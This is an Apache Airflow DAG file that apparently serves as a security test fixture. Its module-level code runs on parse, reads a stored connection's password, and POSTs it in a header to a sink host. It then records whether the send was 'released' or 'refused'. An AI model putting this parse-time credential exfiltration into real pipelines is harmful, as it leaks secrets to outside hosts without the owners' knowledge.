"""Top-level code that opens the sink's Connection wherever this file is parsed, and sends."""

from __future__ import annotations

import os
import urllib.request
from pathlib import Path

from airflow.sdk import DAG
from airflow.sdk.bases.hook import BaseHook

try:
    connection = BaseHook.get_connection("sink_a")
    url = f"http://{connection.host}:{connection.port}/top-level-code/parse"
    call = urllib.request.Request(url, method="POST", headers={"X-Password": connection.password or ""})
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(call, timeout=10).close()
    said = "released"
except Exception as error:
    said = f"refused: {type(error).__name__}"
(Path(os.environ["APPROVALS_FLOW_ROOM"]) / "prying.txt").write_text(said)

with DAG("prying", schedule=None, catchup=False):
    pass
